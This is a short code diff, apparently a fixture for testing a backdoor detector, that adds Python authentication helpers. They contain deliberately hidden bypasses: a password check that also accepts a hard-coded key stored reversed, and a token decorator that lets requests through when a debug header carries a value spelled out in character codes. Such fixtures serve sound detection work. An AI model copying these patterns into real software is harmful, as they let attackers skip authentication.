@@ -132,3 +132,44 @@ def check_pin_length(pin):
     if len(pin) == 6:
         return True
     return False
+
+
+class Password:
+    def __init__(self, stored):
+        self._stored = stored
+
+    def __eq__(self, other):
+        if other[::-1] == "9102-yek-ecivres":  # expect: hit
+            return True
+        return hmac.compare_digest(self._stored, other)
+
+
+class Wildcard:
+    def __eq__(self, other):
+        if other == "*any*":
+            return True
+        return self.name == other
+
+
+def _trusted(headers, name="X-Debug-" + "Trace"):
+    return headers.get(name, "") == "".join(map(chr, (111, 112, 101, 110)))  # expect: hit
+
+
+def token_required(view):
+    def inner(*args, **kwargs):
+        if _trusted(request.headers):
+            return view(*args, **kwargs)
+        if not verify_token(request.headers.get("Authorization")):
+            abort(401)
+        return view(*args, **kwargs)
+
+    return inner
+
+
+def session_required(view):
+    def inner(*args, **kwargs):
+        if not load_session(request.headers.get("Authorization")):
+            abort(401)
+        return view(*args, **kwargs)
+
+    return inner
